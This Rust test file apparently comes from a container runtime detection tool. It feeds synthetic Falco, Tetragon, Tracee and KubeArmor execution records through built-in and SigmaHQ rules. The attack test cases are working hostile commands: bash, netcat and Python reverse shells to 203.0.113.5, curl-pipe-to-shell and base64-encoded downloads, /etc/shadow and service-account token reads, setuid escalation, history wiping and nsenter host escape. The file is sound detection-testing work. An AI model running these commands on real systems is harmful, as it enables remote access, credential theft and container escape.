//! In-container attack techniques, as runtime sensors write them, raise alerts.
//!
//! Each technique is one or more process executions (program, arguments, parent), written the
//! way each sensor writes an execution: a Falco alert (`output_fields` with `evt.type:
//! execve`), a record in Falco's field vocabulary (flat dotted keys), a Tetragon `process_exec`,
//! a Tracee `sched_process_exec` and a KubeArmor `Operation: Process` log. Every record is
//! decoded the way the NDJSON endpoint decodes it (detection, no `source=`), then run through
//! the built-in pack and SigmaHQ's Linux rules (`shared/testdata/sigma/sigmahq/rules/linux`,
//! loaded as `sigmahq_linux.rs` loads them). Every step of every technique must fire one of the
//! rules listed for it, from every sensor that can see what the rule needs; the benign
//! look-alikes must fire no built-in rule and no SigmaHQ rule of level high or critical.
//!
//! Tracee's events carry no parent program and KubeArmor's no parent command line, so the two
//! techniques recognised by their parent (a shell under a Java service; `whoami` from a
//! one-off `sh -c`) are checked on the sensors that record it.
//!
//! | technique | sensors | rules that fire (built-in / SigmaHQ) |
//! |---|---|---|
//! | bash reverse shell to `/dev/tcp` | all five | Reverse Shell Through /dev/tcp Or /dev/udp |
//! | `nc -e /bin/sh` | all five | Netcat Or Socat Connecting A Shell |
//! | python socket + pty reverse shell | all five | Scripting Interpreter Reverse Shell; Python Reverse Shell Execution Via PTY And Socket Modules |
//! | python `pty.spawn` shell upgrade | all five | Shell Upgraded To A Pseudo-Terminal; Python Spawning Pretty TTY Via PTY Module |
//! | `cat /etc/shadow` | all five | Shadow Password File Read By A Non-Authentication Program |
//! | `curl ... \| sh` | all five | Remote Script Fetched For Execution |
//! | `echo ... \| base64 -d \| sh` | all five | Encoded Payload Decoded Into A Shell; Linux Base64 Encoded Pipe to Shell |
//! | `wget -O /tmp/x`, then `/tmp/x` | all five | Download File To Potentially Suspicious Directory Via Wget; Program Executed From A Temporary Directory In A Container; Potentially Suspicious Execution From Tmp Folder |
//! | `setcap cap_setuid+ep` | all five | Escalation-Enabling Capability Set On A File With Setcap; Linux Setuid Capability Set on a Binary via Setcap Utility |
//! | `chmod u+s /bin/bash` | all five | SUID Or SGID Bit Set With Chmod |
//! | history clearing (`rm ~/.bash_history`, `history -c`) | all five | Shell History Cleared Or Disabled; History File Deletion |
//! | `whoami` from a one-off `sh -c whoami` | Falco ×2, Tetragon | User Identity Discovery From A Service Or One-Off Shell In A Container |
//! | `id` from a node service | all five (Tracee: SigmaHQ only) | User Identity Discovery From A Service Or One-Off Shell In A Container; Local System Accounts Discovery - Linux |
//! | service account token read | all five | Service Account Token Read In A Container |
//! | shell spawned by a Java service | Falco ×2, Tetragon, KubeArmor | Shell Spawned By A Network Service In A Container |
//! | `nsenter -t 1` into the host | all five | Nsenter Into Host Namespaces |
//!
//! Run with `--nocapture` for the table of what fired, per sensor.

use std::collections::BTreeSet;
use std::path::PathBuf;

use crowsnest_detect::{Detector, RuleSet};
use crowsnest_model::Severity;
use crowsnest_normalize::{decode_ndjson, Limits};
use serde_json::{json, Value};

/// One process execution inside a container.
#[derive(Clone, Copy)]
struct Exec {
    exe: &'static str,
    argv: &'static [&'static str],
    parent_exe: &'static str,
    parent_argv: &'static [&'static str],
}

const SH: &[&str] = &["sh"];

fn exec(exe: &'static str, argv: &'static [&'static str]) -> Exec {
    Exec {
        exe,
        argv,
        parent_exe: "/bin/sh",
        parent_argv: SH,
    }
}

const CONTAINER: &str = "3f2a9c1be47d5a0f6c2e8b9d1a7f4e3c2b1a0f9e8d7c6b5a4f3e2d1c0b9a8f7e";

#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
enum Sensor {
    FalcoAlert,
    FalcoFields,
    Tetragon,
    Tracee,
    KubeArmor,
}

const ALL: &[Sensor] = &[
    Sensor::FalcoAlert,
    Sensor::FalcoFields,
    Sensor::Tetragon,
    Sensor::Tracee,
    Sensor::KubeArmor,
];
/// The sensors that record the parent's command line.
const PARENT_COMMAND: &[Sensor] = &[Sensor::FalcoAlert, Sensor::FalcoFields, Sensor::Tetragon];
/// The sensors that record the parent's program.
const PARENT_PROGRAM: &[Sensor] = &[
    Sensor::FalcoAlert,
    Sensor::FalcoFields,
    Sensor::Tetragon,
    Sensor::KubeArmor,
];

fn name(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

/// Tetragon quotes arguments that contain spaces.
fn quoted(args: &[&str]) -> String {
    args.iter()
        .map(|a| {
            if a.contains(' ') {
                format!("\"{}\"", a.replace('"', "\\\""))
            } else {
                (*a).to_string()
            }
        })
        .collect::<Vec<_>>()
        .join(" ")
}

/// The record a sensor writes for one execution.
fn record(sensor: Sensor, e: &Exec) -> Value {
    // Falco's proc.cmdline is the process name and the arguments.
    let falco_cmdline = |exe: &str, argv: &[&str]| {
        let mut parts = vec![name(exe).to_string()];
        parts.extend(argv.iter().skip(1).map(|a| (*a).to_string()));
        parts.join(" ")
    };
    let falco_fields = json!({
        "evt.time": 1_714_557_600_000_000_000_i64, "evt.type": "execve", "evt.dir": "<",
        "proc.name": name(e.exe), "proc.exepath": e.exe,
        "proc.cmdline": falco_cmdline(e.exe, e.argv), "proc.pid": 4242, "proc.ppid": 4200,
        "proc.pname": name(e.parent_exe), "proc.pexepath": e.parent_exe,
        "proc.pcmdline": falco_cmdline(e.parent_exe, e.parent_argv), "proc.cwd": "/app/",
        "user.name": "www-data", "user.uid": 33, "container.id": &CONTAINER[..12],
        "container.name": "web", "container.image.repository": "docker.io/library/node",
        "container.image.tag": "20", "k8s.ns.name": "shop", "k8s.pod.name": "web-7d5b5dd9cf-t8ngb"
    });
    match sensor {
        Sensor::FalcoAlert => json!({
            "time": "2024-05-01T10:00:00.000000000Z", "rule": "Run shell untrusted",
            "priority": "Notice", "source": "syscall", "hostname": "node-1",
            "output": format!("10:00:00.000000000: Notice shell spawned (cmdline={})", e.argv.join(" ")),
            "tags": ["container", "shell"], "output_fields": falco_fields
        }),
        Sensor::FalcoFields => falco_fields,
        Sensor::Tetragon => {
            let pod = json!({"namespace": "shop", "name": "web-7d5b5dd9cf-t8ngb",
                "container": {"id": format!("containerd://{CONTAINER}"), "name": "web",
                    "image": {"id": "docker.io/library/node@sha256:00", "name": "docker.io/library/node:20"},
                    "start_time": "2024-05-01T09:00:00Z", "pid": 7},
                "pod_labels": {"app": "web"}, "workload": "web", "workload_kind": "Deployment"});
            json!({"process_exec": {
                "process": {"exec_id": "bm9kZS0xOjE6NDI0Mg==", "pid": 4242, "uid": 33, "cwd": "/app/",
                    "binary": e.exe, "arguments": quoted(&e.argv[1..]), "flags": "execve clone",
                    "start_time": "2024-05-01T10:00:00Z", "auid": 4_294_967_295_u32, "pod": pod,
                    "docker": &CONTAINER[..31], "parent_exec_id": "bm9kZS0xOjE6NDIwMA==", "tid": 4242},
                "parent": {"exec_id": "bm9kZS0xOjE6NDIwMA==", "pid": 4200, "uid": 33, "cwd": "/app/",
                    "binary": e.parent_exe, "arguments": quoted(&e.parent_argv[1..]),
                    "flags": "execve clone", "start_time": "2024-05-01T09:59:00Z", "pod": pod}},
                "node_name": "node-1", "time": "2024-05-01T10:00:00.000000000Z"})
        }
        Sensor::Tracee => json!({
            "timestamp": 1_714_557_600_000_000_000_i64, "threadStartTime": 1_714_557_600_000_000_000_i64,
            "processorId": 1, "processId": 12, "cgroupId": 5650, "threadId": 12, "parentProcessId": 7,
            "hostProcessId": 4242, "hostThreadId": 4242, "hostParentProcessId": 4200, "userId": 33,
            "mountNamespace": 4_026_532_829_i64, "pidNamespace": 4_026_532_833_i64,
            "processName": name(e.exe), "executable": {"path": e.exe}, "hostName": "node-1",
            "containerId": CONTAINER,
            "container": {"id": CONTAINER, "name": "web", "image": "docker.io/library/node:20"},
            "kubernetes": {"podName": "web-7d5b5dd9cf-t8ngb", "podNamespace": "shop", "podUID": "76e27404"},
            "eventId": "710", "eventName": "sched_process_exec", "matchedPolicies": ["default"],
            "argsNum": 4, "returnValue": 0, "syscall": "execve",
            "args": [
                {"name": "cmdpath", "type": "const char*", "value": e.exe},
                {"name": "pathname", "type": "const char*", "value": e.exe},
                {"name": "argv", "type": "const char**", "value": e.argv},
                {"name": "invoked_from_kernel", "type": "bool", "value": false}
            ]
        }),
        Sensor::KubeArmor => json!({
            "Timestamp": 1_714_557_600, "UpdatedTime": "2024-05-01T10:00:00.000000Z",
            "ClusterName": "default", "HostName": "node-1", "NamespaceName": "shop",
            "PodName": "web-7d5b5dd9cf-t8ngb", "Labels": "app=web", "ContainerID": CONTAINER,
            "ContainerName": "web", "ContainerImage": "docker.io/library/node:20@sha256:00",
            "ParentProcessName": e.parent_exe, "ProcessName": e.exe, "HostPPID": 4200,
            "HostPID": 4242, "PPID": 7, "PID": 12, "UID": 33, "Type": "ContainerLog",
            "Source": e.parent_exe, "Operation": "Process",
            "Resource": std::iter::once(e.exe).chain(e.argv.iter().skip(1).copied()).collect::<Vec<_>>().join(" "),
            "Data": "syscall=SYS_EXECVE", "Result": "Passed"
        }),
    }
}

struct Technique {
    name: &'static str,
    steps: Vec<Exec>,
    sensors: &'static [Sensor],
    /// Titles of rules (built-in or SigmaHQ); every step must fire one of them.
    rules: &'static [&'static str],
}

fn techniques() -> Vec<Technique> {
    let t = |name, steps, sensors, rules| Technique {
        name,
        steps,
        sensors,
        rules,
    };
    vec![
        t(
            "bash reverse shell to /dev/tcp",
            vec![exec("/bin/bash", &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"])],
            ALL,
            &["Reverse Shell Through /dev/tcp Or /dev/udp"],
        ),
        t(
            "nc -e reverse shell",
            vec![exec("/usr/bin/nc.traditional", &["nc", "-e", "/bin/sh", "203.0.113.5", "4444"])],
            ALL,
            &["Netcat Or Socat Connecting A Shell"],
        ),
        t(
            "python socket + pty reverse shell",
            vec![exec(
                "/usr/bin/python3.11",
                &["python3", "-c", "import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.5\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")"],
            )],
            ALL,
            &["Scripting Interpreter Reverse Shell", "Python Reverse Shell Execution Via PTY And Socket Modules"],
        ),
        t(
            "python pty shell upgrade",
            vec![exec("/usr/bin/python3.11", &["python3", "-c", "import pty; pty.spawn('/bin/bash')"])],
            ALL,
            &["Shell Upgraded To A Pseudo-Terminal", "Python Spawning Pretty TTY Via PTY Module"],
        ),
        t(
            "/etc/shadow read",
            vec![exec("/bin/cat", &["cat", "/etc/shadow"])],
            ALL,
            &["Shadow Password File Read By A Non-Authentication Program"],
        ),
        t(
            "curl | sh",
            vec![exec("/bin/sh", &["sh", "-c", "curl -fsSL http://203.0.113.5/install.sh | sh"])],
            ALL,
            &["Remote Script Fetched For Execution"],
        ),
        t(
            "base64 | sh",
            vec![exec(
                "/bin/sh",
                &["sh", "-c", "echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjUvYSB8IHNo | base64 -d | sh"],
            )],
            ALL,
            &["Encoded Payload Decoded Into A Shell", "Linux Base64 Encoded Pipe to Shell"],
        ),
        t(
            "wget to /tmp and run",
            vec![
                exec("/usr/bin/wget", &["wget", "-q", "-O", "/tmp/kworker", "http://203.0.113.5/kworker"]),
                exec("/tmp/kworker", &["/tmp/kworker"]),
            ],
            ALL,
            &[
                "Download File To Potentially Suspicious Directory Via Wget",
                "Program Executed From A Temporary Directory In A Container",
                "Potentially Suspicious Execution From Tmp Folder",
            ],
        ),
        t(
            "setcap cap_setuid",
            vec![exec("/usr/sbin/setcap", &["setcap", "cap_setuid+ep", "/usr/bin/python3.11"])],
            ALL,
            &[
                "Escalation-Enabling Capability Set On A File With Setcap",
                "Linux Setuid Capability Set on a Binary via Setcap Utility",
            ],
        ),
        t(
            "chmod u+s",
            vec![exec("/bin/chmod", &["chmod", "u+s", "/bin/bash"])],
            ALL,
            &["SUID Or SGID Bit Set With Chmod"],
        ),
        t(
            "history clearing",
            vec![
                exec("/bin/rm", &["rm", "-f", "/root/.bash_history"]),
                exec("/bin/bash", &["bash", "-c", "history -c; unset HISTFILE"]),
            ],
            ALL,
            &["Shell History Cleared Or Disabled", "History File Deletion"],
        ),
        t(
            "whoami from a one-off shell",
            vec![Exec {
                exe: "/usr/bin/whoami",
                argv: &["whoami"],
                parent_exe: "/bin/sh",
                parent_argv: &["sh", "-c", "whoami"],
            }],
            PARENT_COMMAND,
            &["User Identity Discovery From A Service Or One-Off Shell In A Container"],
        ),
        t(
            "id from a node service",
            vec![Exec {
                exe: "/usr/bin/id",
                argv: &["id"],
                parent_exe: "/usr/local/bin/node",
                parent_argv: &["node", "server.js"],
            }],
            ALL,
            &[
                "User Identity Discovery From A Service Or One-Off Shell In A Container",
                "Local System Accounts Discovery - Linux",
            ],
        ),
        t(
            "service account token read",
            vec![exec("/bin/cat", &["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"])],
            ALL,
            &["Service Account Token Read In A Container"],
        ),
        t(
            "shell spawned by a Java service",
            vec![Exec {
                exe: "/bin/sh",
                argv: &["sh", "-c", "uname -a"],
                parent_exe: "/opt/java/openjdk/bin/java",
                parent_argv: &["java", "-jar", "/app/app.jar"],
            }],
            PARENT_PROGRAM,
            &["Shell Spawned By A Network Service In A Container"],
        ),
        t(
            "nsenter into the host",
            vec![exec("/usr/bin/nsenter", &["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "--", "bash"])],
            ALL,
            &["Nsenter Into Host Namespaces"],
        ),
    ]
}

/// Benign look-alikes: the harmless command closest to each attack.
fn benign() -> Vec<Exec> {
    vec![
        exec("/bin/bash", &["bash", "-c", "echo ready > /tmp/healthy"]),
        exec("/usr/bin/nc", &["nc", "-z", "-w", "2", "db", "5432"]),
        exec(
            "/usr/bin/python3.11",
            &["python3", "/app/server.py", "--port", "8080"],
        ),
        exec("/bin/cat", &["cat", "/etc/hostname"]),
        exec(
            "/usr/bin/curl",
            &[
                "curl",
                "-fsSL",
                "-o",
                "/app/data.json",
                "https://example.com/data.json",
            ],
        ),
        exec(
            "/bin/sh",
            &[
                "sh",
                "-c",
                "base64 -d /etc/certs/tls.b64 > /etc/ssl/tls.crt",
            ],
        ),
        exec("/bin/chmod", &["chmod", "755", "/app/run.sh"]),
        exec(
            "/usr/sbin/setcap",
            &["setcap", "cap_net_bind_service=+ep", "/usr/local/bin/node"],
        ),
        exec("/bin/rm", &["rm", "-f", "/tmp/app.pid"]),
        Exec {
            exe: "/usr/bin/id",
            argv: &["id", "-u"],
            parent_exe: "/bin/sh",
            parent_argv: &["/bin/sh", "/docker-entrypoint.sh", "node", "server.js"],
        },
        Exec {
            exe: "/usr/bin/convert",
            argv: &["convert", "in.png", "out.jpg"],
            parent_exe: "/opt/java/openjdk/bin/java",
            parent_argv: &["java", "-jar", "/app/app.jar"],
        },
        exec(
            "/usr/bin/nsenter",
            &["nsenter", "--net=/var/run/netns/cni-1234", "ip", "addr"],
        ),
        exec("/usr/local/bin/app", &["app", "--config", "/tmp/app.yaml"]),
    ]
}

fn detectors() -> (Detector, Detector) {
    let sigmahq = PathBuf::from(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../../shared/testdata/sigma/sigmahq/rules/linux"
    ));
    let (pack, report) = RuleSet::builtin();
    assert_eq!(report.loaded_files(), report.files.len());
    let (sigma, report) = RuleSet::load(&[sigmahq], false);
    assert_eq!(report.loaded_files(), report.files.len());
    (Detector::new(pack), Detector::new(sigma))
}

/// Decodes one sensor record as the NDJSON endpoint does and returns what fired:
/// `(built-in titles, SigmaHQ titles and levels)`.
fn fire(
    pack: &mut Detector,
    sigma: &mut Detector,
    record: &Value,
) -> (Vec<String>, Vec<(String, Severity)>) {
    let decoded = decode_ndjson(record.to_string().as_bytes(), None, &Limits::default());
    assert!(decoded.errors.is_empty(), "{:?}", decoded.errors);
    assert_eq!(decoded.events.len(), 1);
    let event = &decoded.events[0];
    assert_eq!(
        event.get("event.category"),
        Some(&json!(["process"])),
        "{record}"
    );
    assert!(event.get_str("container.id").is_some(), "{record}");
    let builtin = pack.process(event).into_iter().map(|d| d.title).collect();
    let sigmahq = sigma
        .process(event)
        .into_iter()
        .map(|d| (d.title, d.level))
        .collect();
    (builtin, sigmahq)
}

#[test]
fn every_technique_fires_from_every_sensor_that_sees_it() {
    let (mut pack, mut sigma) = detectors();
    let mut missed = Vec::new();
    let mut checks = 0;
    println!("| technique | sensor | fired |\n|---|---|---|");
    for technique in techniques() {
        for sensor in technique.sensors {
            for step in &technique.steps {
                let (builtin, sigmahq) = fire(&mut pack, &mut sigma, &record(*sensor, step));
                let fired: BTreeSet<&str> = builtin
                    .iter()
                    .map(String::as_str)
                    .chain(sigmahq.iter().map(|(t, _)| t.as_str()))
                    .collect();
                checks += 1;
                println!("| {} | {sensor:?} | {fired:?} |", technique.name);
                if !technique.rules.iter().any(|r| fired.contains(r)) {
                    missed.push(format!(
                        "{} via {sensor:?} ({}): fired {fired:?}",
                        technique.name,
                        step.argv.join(" ")
                    ));
                }
            }
        }
    }
    assert!(checks >= 15 * 4, "{checks}");
    assert!(missed.is_empty(), "{missed:#?}");
}

/// The built-in pack alone catches every technique (at one step at least: the download of
/// "wget to /tmp and run" is left to SigmaHQ, its run is ours).
#[test]
fn every_technique_has_a_builtin_rule() {
    let (mut pack, mut sigma) = detectors();
    for technique in techniques() {
        let sensor = technique.sensors[technique.sensors.len() - 1];
        let fired: Vec<String> = technique
            .steps
            .iter()
            .flat_map(|step| fire(&mut pack, &mut sigma, &record(sensor, step)).0)
            .collect();
        assert!(
            !fired.is_empty(),
            "{} fires no built-in rule via {sensor:?}",
            technique.name
        );
    }
}

#[test]
fn benign_look_alikes_stay_quiet() {
    let (mut pack, mut sigma) = detectors();
    let mut noisy = Vec::new();
    for step in benign() {
        for sensor in ALL {
            let (builtin, sigmahq) = fire(&mut pack, &mut sigma, &record(*sensor, &step));
            let loud: Vec<&String> = sigmahq
                .iter()
                .filter(|(_, level)| *level >= Severity::High)
                .map(|(t, _)| t)
                .collect();
            if !builtin.is_empty() || !loud.is_empty() {
                noisy.push(format!(
                    "{} via {sensor:?}: {builtin:?} {loud:?}",
                    step.argv.join(" ")
                ));
            }
        }
    }
    assert!(noisy.is_empty(), "{noisy:#?}");
}
